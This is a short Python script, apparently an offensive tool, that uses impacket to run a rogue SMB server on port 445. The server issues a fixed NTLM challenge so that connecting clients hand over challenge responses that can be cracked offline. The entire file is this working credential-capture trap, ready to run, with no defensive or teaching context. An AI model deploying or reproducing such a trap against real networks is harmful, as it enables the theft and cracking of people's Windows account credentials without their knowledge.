"""An SMB server that always asks the same challenge and wants nothing but the answer, by impacket.

smb_trap.py ADDRESS [CHALLENGE]
"""

import sys

from impacket.smbserver import SimpleSMBServer

address, challenge = (*sys.argv[1:], "1122334455667788")[:2]
server = SimpleSMBServer(listenAddress=address, listenPort=445)
server.addShare("PUB", "/tmp", "")
server.setSMB2Support(True)
server.setSMBChallenge(challenge)
server.addCredential("nobody", 0, "", "")
server.start()
